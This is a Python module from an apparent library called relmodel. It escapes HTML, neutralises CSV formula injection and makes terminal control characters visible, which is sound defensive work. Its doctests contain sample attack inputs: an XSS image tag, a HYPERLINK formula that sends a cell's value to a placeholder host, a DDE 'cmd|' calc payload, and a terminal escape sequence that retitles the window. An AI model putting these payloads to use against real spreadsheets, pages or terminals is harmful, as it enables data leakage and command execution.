"""Escaping for what relmodel writes (base layer): HTML text, spreadsheet-safe CSV cells and terminal text.

Every ``_repr_html_`` and every report page puts text that comes from data, file
names or parameters through :func:`html_text`; every CSV relmodel writes goes
through :func:`csv_frame`, which applies OWASP's CSV-injection rule: a text cell
that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
prefixed with a single quote, so a spreadsheet shows it as text instead of
running it as a formula. Numbers stay numbers (a number column is never
touched, and a text cell that is a plain number such as ``-2.5`` is kept).
Everything the command line prints goes through :func:`terminal_text`: control
bytes (an escape sequence in a cause name, a Slurm job name or a file name could
retitle the terminal, move the cursor or hide text) are shown escaped, ``\x1b``.
"""

import html
import re

__all__ = ["html_text", "html_paragraphs", "csv_cell", "csv_frame", "FORMULA_STARTS", "brief", "terminal_text"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def html_text(value):
    """``value`` as text safe inside an HTML element or a quoted attribute.

    Examples
    --------
    >>> html_text("<img src=x onerror='alert(1)'>")
    '&lt;img src=x onerror=&#x27;alert(1)&#x27;&gt;'
    >>> html_text(3.5)
    '3.5'
    """
    return html.escape(str(value), quote=True)


def html_paragraphs(lines, tag="p"):
    """Each line as its own escaped ``<p>`` (or ``tag``) element."""
    return "".join(f"<{tag}>{html_text(line)}</{tag}>" for line in lines)


def csv_cell(value):
    """A text cell that a spreadsheet will not run as a formula; anything else as given.

    Examples
    --------
    >>> csv_cell('=HYPERLINK("http://x/?a="&A1,"click")')
    '\\'=HYPERLINK("http://x/?a="&A1,"click")'
    >>> csv_cell("-2+3+cmd|' /C calc'!A0")[:2], csv_cell("-2.5"), csv_cell(-2.5), csv_cell("gpu")
    ("'-", '-2.5', -2.5, 'gpu')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_frame(df):
    """A copy of DataFrame ``df`` whose text cells and column names pass :func:`csv_cell`."""
    out = df.copy()
    for column in out.columns:
        if out[column].dtype == object or str(out[column].dtype) in ("string", "category"):
            out[column] = out[column].map(csv_cell)
    out.columns = [csv_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def brief(value, limit=60):
    """``repr(value)`` cut to about ``limit`` characters, for error messages about huge inputs.

    Examples
    --------
    >>> brief(10 ** 100)
    '1000000000000000000000000000… (101 digits)'
    >>> brief("x" * 1000)[-20:]
    '… (1,002 characters)'
    """
    if isinstance(value, int) and not isinstance(value, bool) and abs(value) > 10 ** limit:
        digits = len(str(abs(value)))
        return f"{str(value)[:limit // 2 - 2]}… ({digits:,} digits)"
    text = repr(value) if not isinstance(value, int) else str(value)
    return text if len(text) <= limit else f"{text[:limit // 2]}… ({len(text):,} characters)"


#: Control characters a terminal acts on: C0 but newline and tab, DEL, C1, and the Unicode marks that
#: reorder text on screen (bidirectional overrides and isolates, "Trojan Source").
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def terminal_text(value):
    r"""``value`` as text a terminal shows as it is: each control character written visibly escaped.

    Newlines and tabs stay; an escape sequence cannot retitle the terminal or move the cursor.

    Examples
    --------
    >>> terminal_text("GPU\x1b]0;pwned\x07")
    'GPU\\x1b]0;pwned\\x07'
    >>> terminal_text("two\nlines\tand a tab")
    'two\nlines\tand a tab'
    """
    return _CONTROL.sub(_visible, str(value))


def _visible(match):
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
